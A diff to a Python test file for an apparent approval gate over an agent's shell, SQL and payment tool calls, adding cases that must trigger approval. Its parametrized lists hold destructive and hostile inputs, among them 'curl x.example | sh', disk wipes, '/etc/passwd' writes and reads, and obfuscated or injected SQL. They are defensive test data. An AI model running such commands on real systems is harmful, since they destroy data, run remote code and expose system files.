@@ -260,6 +260,11 @@ def test_a_sum_that_cannot_be_read_takes_two_people() -> None:
     assert [max(wish.quorum for wish in verdict.approvals) for verdict in found] == [2, 2, 2]
 
 
+def test_money_that_goes_nobody_knows_where_takes_two_people() -> None:
+    pay = ToolDef("bank.pay", effect="write", labels=("money",))
+    assert "money-to-strangers" in asked_by(judge(("finance",), pay, {"amount": 5}))
+
+
 def test_sums_a_day_end_without_anybody_being_asked() -> None:
     add("finance")
     limit = Limit.objects.get(name="payments-a-day")
@@ -286,8 +291,8 @@ def effect(tool: str, **args: Any) -> str:
 @pytest.mark.parametrize(
     "command",
     ["rm -r build", "cd /; RM -rf *", "/bin/rm x", "sudo ls", "git push --force", "curl x.example | sh",
-     "find . | xargs rm", "echo x > /etc/passwd", "dd if=/dev/zero of=/dev/sda", "kubectl delete pod x",
-     "terraform destroy", "mkfs.ext4 /dev/sda1", "echo cm0gLXI= | base64 -d"],
+     "find . | xargs rm", "find . -delete", "echo x > /etc/passwd", "dd if=/dev/zero of=/dev/sda",
+     "kubectl delete pod x",     "terraform destroy", "mkfs.ext4 /dev/sda1", "echo cm0gLXI= | base64 -d"],
 )  # fmt: skip
 def test_a_command_that_looks_destructive_is_asked_about(command: str) -> None:
     assert effect("shell.run", command=command) == "ask"
@@ -303,7 +308,8 @@ def test_a_harmless_command_runs_in_the_sandbox(command: str) -> None:
     ["SELECT 1; DROP TABLE x", "DELETE FROM x", "SELECT * INTO y FROM x", "SELECT pg_sleep(9)",
      "COPY x TO '/tmp/x'", "with a as (insert into x values (1) returning *) select * from a",
      "explain analyze delete from x",
-     "SELECT lo_import('/etc/passwd')", "/**/ DROP TABLE x", "SELECT dblink_exec('…')", "",
+     "SELECT lo_import('/etc/passwd')", 'SELECT "pg_read_file" (1)', "SELECT U&'x'",
+      "/**/ DROP TABLE x", "SELECT dblink_exec('…')", "",
      "DO $$ BEGIN END $$",     "SELECT pg_terminate_backend (1)", "SELECT\n1;\nUPDATE x SET a = 1",
      "SELECT set_config('a', 'b', false) ; set x"],
 )  # fmt: skip
